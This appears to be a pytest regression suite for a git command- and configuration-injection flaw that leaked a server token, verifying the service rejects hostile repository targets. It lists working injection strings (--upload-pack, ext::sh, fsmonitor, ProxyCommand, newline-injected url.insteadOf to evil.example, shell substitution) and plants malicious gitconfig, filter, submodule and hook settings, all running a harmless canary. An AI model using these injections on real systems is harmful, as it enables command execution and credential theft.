"""CVE-2024-53983: a value from a template came into the configuration of git, which then sent the server's token to a
host of the attacker. Values reach git here as the address and the branch of a location."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from callboard.testing import LocalServer, Reply

from .attacking import ANN, PEOPLE, attacked, component, is_alive, names, register
from .repositories import commit, git, new_repository

TOKEN = "sesame-opens"


def hostile(canary: Path, repository: Path, web: str) -> list[str]:
    """Targets that would have git run something, read a configuration or go elsewhere."""
    run = f"touch {canary}"
    return [
        f"--upload-pack={run}",
        f"-u{run}",
        f"--config=core.fsmonitor={run}",
        f"ext::sh -c '{run}'",
        f"ext::sh -c touch% {canary}",
        "fd::17",
        f"file://{repository} --upload-pack={run}",
        f"{repository}#--upload-pack={run}",
        f"{repository}#-b",
        f"{repository}#main\n--upload-pack={run}",
        f"{repository}\n[core]\n\tfsmonitor = {run}",
        f'{repository}#main%0a[url "{web}/"]',
        f'{web}/acme/repo.git\n[url "http://evil.example/"]\n\tinsteadOf = {web}',
        f"{web}/acme/repo.git\r\nAuthorization: x",
        f"{web}/acme/repo.git\x00",
        f"http://evil.example@{web.removeprefix('http://')}/acme/repo.git",
        f"{web}@evil.example/acme/repo.git",
        f"ssh://-oProxyCommand={canary}/acme/repo",
        f"-oProxyCommand={canary}@host:acme/repo",
        f"ssh://host/acme/repo;{run}",
        f"git@host:acme/$({run})",
        f"$({run})",
        f"`{run}`",
    ]


def settings(repository: Path, web: LocalServer) -> dict[str, Any]:
    host = web.url.removeprefix("http://")
    return {
        "integrations": {"gitea": [{"host": host, "baseUrl": web.url, "username": "u", "password": TOKEN}]},
        "catalog": {"localFolders": [str(repository)], "processingInterval": False},
    }


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    made = new_repository(tmp_path / "repository")
    (made / "catalog-info.yaml").write_text(component("good"))
    commit(made)
    return made


async def test_no_address_and_no_branch_is_more_than_that_to_git(
    tmp_path: Path, repository: Path, web: LocalServer
) -> None:
    canary = tmp_path / "canary"
    async with attacked(PEOPLE, settings=settings(repository, web)) as running:
        for target in hostile(canary, repository, web.url):
            tried = await register(running, target, "git", dryRun="true")
            assert tried.status_code in {400, 403}, target
            await register(running, target, "git")
            location = {"type": "git", "target": target}
            await running.post("/api/catalog/analyze-location", json={"location": location}, headers=ANN)
            assert not canary.exists(), target
            assert TOKEN not in tried.text
        assert web.seen == []
        assert await names(running) == set()
        assert await is_alive(running)


async def test_git_reads_no_configuration_but_ours(
    tmp_path: Path, repository: Path, web: LocalServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither that of the person who runs the portal, nor the environment, nor that of the repository."""
    canary, script, home = tmp_path / "canary", tmp_path / "evil.sh", tmp_path / "home"
    script.write_text(f"#!/bin/sh\ntouch {canary}\n")
    script.chmod(0o755)
    home.mkdir()
    evil = f'[core]\n\tfsmonitor = {script}\n\tsshCommand = {script}\n[credential]\n\thelper = "!{script}"\n'
    elsewhere = f'[url "{tmp_path}/nowhere"]\n\tinsteadOf = {repository}\n\tinsteadOf = file://{repository}\n'
    (home / ".gitconfig").write_text(evil + elsewhere)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", f"url.{tmp_path}/nowhere.insteadOf")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(repository))
    monkeypatch.setenv("GIT_SSH_COMMAND", str(script))
    monkeypatch.setenv("GIT_ASKPASS", str(script))
    (repository / ".gitattributes").write_text("*.yaml filter=evil\n")
    (repository / ".gitmodules").write_text(f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c {script}\n')
    hook = repository / ".git/hooks/post-checkout"
    hook.write_text(script.read_text())
    hook.chmod(0o755)
    monkeypatch.delenv("GIT_CONFIG_COUNT")
    monkeypatch.delenv("GIT_CONFIG_GLOBAL")
    monkeypatch.setenv("HOME", str(tmp_path))
    git(repository, "config", "filter.evil.smudge", str(script))
    git(repository, "config", "filter.evil.clean", "cat")
    commit(repository)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
    monkeypatch.setenv("HOME", str(home))
    async with attacked(PEOPLE, settings=settings(repository, web)) as running:
        assert (await register(running, str(repository), "git")).status_code == 201
        assert await names(running) == {"good"}
    assert not canary.exists()


async def test_the_token_of_a_host_is_not_sent_where_that_host_redirects_to(
    tmp_path: Path, repository: Path, web: LocalServer
) -> None:
    with LocalServer() as other:
        web.routes["/acme/repo.git/info/refs"] = Reply(
            status=302, headers={"Location": f"{other.url}/acme/repo.git/info/refs?service=git-upload-pack"}
        )
        async with attacked(PEOPLE, settings=settings(repository, web)) as running:
            tried = await register(running, f"{web.url}/acme/repo.git", "git", dryRun="true")
            assert tried.status_code >= 400
    assert web.seen
    assert other.seen == []
